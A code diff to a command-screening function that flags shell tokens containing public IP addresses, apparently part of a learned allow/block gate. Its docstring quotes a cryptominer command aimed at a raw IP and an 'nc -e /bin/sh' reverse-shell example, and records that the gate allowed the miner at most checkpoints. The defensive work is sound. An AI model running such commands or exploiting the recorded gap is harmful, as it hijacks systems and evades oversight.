@@ -262,7 +262,7 @@ def public_address(token: str) -> bool:
     Why (docs/learning.md, "A public address"): a command that connects to a bare
     address rather than a name is how a reverse shell or a miner reaches its operator,
     and an address the gate never saw shares no byte with the ones it learned to block
-    (``./xmrig -o 146.75.143.199:6666`` was answered allow at 21 of 22 checkpoints while
+    (``./xmrig -o 146.75.143.199:6666`` was answered allow at 21 of 24 checkpoints while
     ``xmrig -o pool...`` and ``nc -e /bin/sh 23.x.x.x ...`` were blocked). As with the
     other marks, the mark says what the token is; what reaching it means is learned."""
     for literal in _IPV4_IN_TOKEN.findall(token):
@@ -271,7 +271,7 @@ def public_address(token: str) -> bool:
                 return True
         except ValueError:  # an octet over 255: not an address
             continue
-    if ":" in token and "." not in token.rpartition(":")[2]:
+    if ":" in token:
         host = url_host(token)
         candidate = host[0] if host else token.strip("[]'\"`,;()")
         try:
